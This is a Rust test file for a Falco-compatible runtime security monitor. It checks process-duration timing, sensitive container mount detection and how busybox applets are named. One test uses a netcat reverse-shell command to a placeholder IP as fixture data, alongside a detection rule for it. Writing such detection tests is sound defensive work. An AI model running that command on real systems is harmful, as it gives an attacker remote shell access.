//! Falco parity of fields whose meaning rules depend on: `proc.duration` (the `proc_is_new`
//! macro), `container.mount.*` of a mount a container does not have (`sensitive_mount`).

use std::collections::BTreeMap;


use palisade_hook::MountFact;
use palisade_rules::output::FieldValue;
use palisade_rules::{Loader, Ruleset, Source};

use super::EventBuilder;
use crate::containers::ContainerMeta;
use crate::process::{ProcessTable, Users};
use crate::record::{Header, Record};

const SEC: u64 = 1_000_000_000;
const BOOT_TO_WALL: u64 = 1_700_000_000 * SEC;

fn hdr(pid: u32, ppid: u32, comm: &str, ts_ns: u64) -> Header {
    let mut h: Header = bytemuck::Zeroable::zeroed();
    h.pid = pid;
    h.tid = pid;
    h.ppid = ppid;
    h.ts_ns = ts_ns;
    h.comm[..comm.len()].copy_from_slice(comm.as_bytes());
    h
}

fn exec(pid: u32, ppid: u32, comm: &str, path: &str, ts_ns: u64) -> Record {
    Record::Exec {
        hdr: hdr(pid, ppid, comm, ts_ns),
        filename: path.to_owned(),
        argv: vec![path.to_owned()],
        args_truncated: false,
        tty: 0,
        cwd: String::new(),
        exe_flags: 0,
        vpid: 0,
        image: Default::default(),
        caps: Default::default(),
        env: None,
    }
}

fn shown(v: &FieldValue) -> String {
    match v {
        FieldValue::Missing => "<NA>".to_owned(),
        FieldValue::Number(n) => n.to_string(),
        FieldValue::Text(t) => t.clone(),
    }
}

fn rules(text: &str) -> Ruleset {
    let mut loader = Loader::new();
    loader.add_str("test.yaml", text);
    let loaded = loader.compile();
    loaded.ruleset.unwrap_or_else(|| panic!("{:?}", loaded.report.diagnostics))
}

/// The names of the rules `rec` (the last record) raises, after `before` built the table.
fn raised(ruleset: &Ruleset, before: Vec<Record>, rec: Record, container: Option<&ContainerMeta>) -> Vec<String> {
    let mut table = ProcessTable::offline();
    let mut builder = EventBuilder::new(BOOT_TO_WALL);
    for r in before {
        let _ = builder.build(r, &mut table);
    }
    let data = builder.build(rec, &mut table).expect("an event");
    let users = Users::default();
    let mut out = Vec::new();
    ruleset.evaluate(Source::Syscall, &data.view(&table, &users, container), &mut out);
    out.iter().map(|r| r.name.clone()).collect()
}

#[test]
fn proc_duration_counts_from_the_fork_not_the_exec() {
    // Falco's proc_is_new: a process forked 10 s ago that exec'd 1 s ago is not new.
    let ruleset = rules(
        "- macro: proc_is_new\n  condition: (proc.duration <= 5000000000)\n\
         - rule: new\n  desc: d\n  condition: evt.type = execve and proc_is_new\n  output: \"%proc.duration %proc.ppid.duration\"\n  priority: INFO\n",
    );
    let fork = |ts| Record::Fork { hdr: hdr(10, 1, "bash", ts), child_pid: 20, child_tid: 20, child_vpid: 0 };
    let old = raised(&ruleset, vec![exec(10, 1, "bash", "/bin/bash", SEC), fork(2 * SEC)], exec(20, 10, "nginx", "/usr/sbin/nginx", 12 * SEC), None);
    assert!(old.is_empty(), "forked 10 s before its exec: {old:?}");
    let new = raised(&ruleset, vec![exec(10, 1, "bash", "/bin/bash", SEC), fork(11 * SEC)], exec(20, 10, "nginx", "/usr/sbin/nginx", 12 * SEC), None);
    assert_eq!(new, ["new"]);
}

#[test]
fn proc_duration_and_start_fields() {
    let mut table = ProcessTable::offline();
    let mut builder = EventBuilder::new(BOOT_TO_WALL);
    let _ = builder.build(exec(10, 1, "bash", "/bin/bash", SEC), &mut table);
    let _ = builder.build(Record::Fork { hdr: hdr(10, 1, "bash", 2 * SEC), child_pid: 20, child_tid: 20, child_vpid: 0 }, &mut table);
    let data = builder.build(exec(20, 10, "cat", "/bin/cat", 5 * SEC), &mut table).expect("exec");
    let users = Users::default();
    let ruleset = rules(
        "- rule: r\n  desc: d\n  condition: evt.type = execve\n  output: \"%proc.duration %proc.pid.ts %proc.ppid.duration %proc.ppid.ts\"\n  priority: INFO\n",
    );
    let rule = ruleset.rule("r").expect("rule");
    let alert = palisade_rules::alert::Alert::new(rule, &data.view(&table, &users, None), data.time_ns, "h");
    let got: BTreeMap<&str, String> = alert.output_fields.iter().map(|(k, v)| (k.as_str(), shown(v))).collect();
    // bash was first seen at its exec (no fork, no /proc offline): its start is unknown.
    assert_eq!(got["proc.duration"], (3 * SEC).to_string());
    assert_eq!(got["proc.pid.ts"], (BOOT_TO_WALL + 2 * SEC).to_string());
    assert_eq!(got["proc.ppid.duration"], "<NA>");
    assert_eq!(got["proc.ppid.ts"], "<NA>");
}

fn container(mounts: &[(&str, &str)]) -> ContainerMeta {
    ContainerMeta {
        full_id: "4f3a9b2c1d0e5f6a7b8c".into(),
        name: "web".into(),
        start_ns: BOOT_TO_WALL + SEC,
        mounts: mounts
            .iter()
            .map(|(source, destination)| MountFact {
                source: (*source).to_owned(),
                destination: (*destination).to_owned(),
                options: vec![],
                ..Default::default()
            })
            .collect(),
        ..ContainerMeta::default()
    }
}

#[test]
fn sensitive_mount_needs_a_sensitive_bind() {
    // Falco's sandbox macro, abridged: every container has a `proc` mount at /proc; only a bind
    // of a host path matching the key (the mount's source) is sensitive.
    let ruleset = rules(
        "- macro: sensitive_mount\n  condition: (not container.mount.dest[/proc*] in (\"<NA>\",\"N/A\") or not container.mount.dest[/etc] in (\"<NA>\",\"N/A\"))\n\
         - rule: Launch Sensitive Mount Container\n  desc: d\n  condition: evt.type = execve and container.id != host and sensitive_mount\n  output: \"%container.mount[/etc] %container.mount.dest[/etc] %container.duration\"\n  priority: INFO\n",
    );
    let plain = container(&[("proc", "/proc"), ("tmpfs", "/dev"), ("/var/lib/vol", "/data")]);
    let run = |c: &ContainerMeta| raised(&ruleset, vec![], exec(20, 1, "sh", "/bin/sh", 4 * SEC), Some(c));
    assert!(run(&plain).is_empty(), "no sensitive bind: {:?}", run(&plain));
    let etc = container(&[("proc", "/proc"), ("/etc", "/host/etc")]);
    assert_eq!(run(&etc), ["Launch Sensitive Mount Container"]);
    // And the values Falco prints for a mount the container lacks.
    let mut table = ProcessTable::offline();
    let data = EventBuilder::new(BOOT_TO_WALL).build(exec(20, 1, "sh", "/bin/sh", 4 * SEC), &mut table).expect("exec");
    let users = Users::default();
    let view = data.view(&table, &users, Some(&plain));
    let show = rules("- rule: r\n  desc: d\n  condition: evt.type = execve\n  output: \"%container.mount[/etc] %container.mount.dest[/etc] %container.mount.source[/x] %container.duration\"\n  priority: INFO\n");
    let alert = palisade_rules::alert::Alert::new(show.rule("r").expect("rule"), &view, data.time_ns, "h");
    let got: Vec<String> = alert.output_fields.iter().map(|(_, v)| shown(v)).collect();
    assert_eq!(got, ["none", "N/A", "N/A", (3 * SEC).to_string().as_str()]);
}

#[test]
fn busybox_applets_run_through_proc_self_exe_are_named_by_argv0() {
    // busybox's `sh -c 'nc -e /bin/sh 10.0.0.1 4444'` execs /proc/self/exe, argv[0] `nc`: the
    // kernel names the task `exe`, and Falco's netcat rule stays silent.
    let ruleset = rules(
        "- rule: Netcat Remote Code Execution in Container\n  desc: d\n  condition: evt.type = execve and proc.name = \"nc\" and proc.cmdline contains \" -e\"\n  output: \"%proc.name %proc.cmdline %proc.exe %proc.pname\"\n  priority: WARNING\n",
    );
    let applet = |path: &str, comm: &str, argv: &[&str]| {
        let mut r = exec(20, 10, comm, path, 2 * SEC);
        if let Record::Exec { argv: a, .. } = &mut r {
            *a = argv.iter().map(|s| (*s).to_owned()).collect();
        }
        r
    };
    let nc = &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"];
    let shell = exec(10, 1, "sh", "/bin/sh", SEC);
    assert_eq!(raised(&ruleset, vec![exec(10, 1, "sh", "/bin/sh", SEC)], applet("/proc/self/exe", "exe", nc), None), ["Netcat Remote Code Execution in Container"]);
    assert_eq!(raised(&ruleset, vec![exec(10, 1, "sh", "/bin/sh", SEC)], applet("/proc/10/exe", "exe", nc), None), ["Netcat Remote Code Execution in Container"]);
    // Any other exec keeps the kernel's name, whatever argv[0] says.
    assert!(raised(&ruleset, vec![shell], applet("/usr/bin/socat", "socat", nc), None).is_empty());

    let mut table = ProcessTable::offline();
    let mut builder = EventBuilder::new(BOOT_TO_WALL);
    let _ = builder.build(exec(10, 1, "sh", "/bin/sh", SEC), &mut table);
    let data = builder.build(applet("/proc/self/exe", "exe", nc), &mut table).expect("exec");
    let p = table.get(20).expect("nc");
    assert_eq!((p.comm.as_str(), p.name(), p.exepath.as_str()), ("exe", "nc", "/proc/self/exe"), "decisions keep the kernel's comm");
    let users = Users::default();
    let rule = ruleset.rule("Netcat Remote Code Execution in Container").expect("rule");
    let alert = palisade_rules::alert::Alert::new(rule, &data.view(&table, &users, None), data.time_ns, "h");
    let got: Vec<String> = alert.output_fields.iter().map(|(_, v)| shown(v)).collect();
    assert_eq!(got, ["nc", "nc -e /bin/sh 10.0.0.1 4444", "nc", "sh"]);
    // A fork of the applet is still that program.
    let _ = builder.build(Record::Fork { hdr: hdr(20, 10, "exe", 3 * SEC), child_pid: 21, child_tid: 21, child_vpid: 0 }, &mut table);
    assert_eq!(table.get(21).map(|p| p.name()), Some("nc"));
}
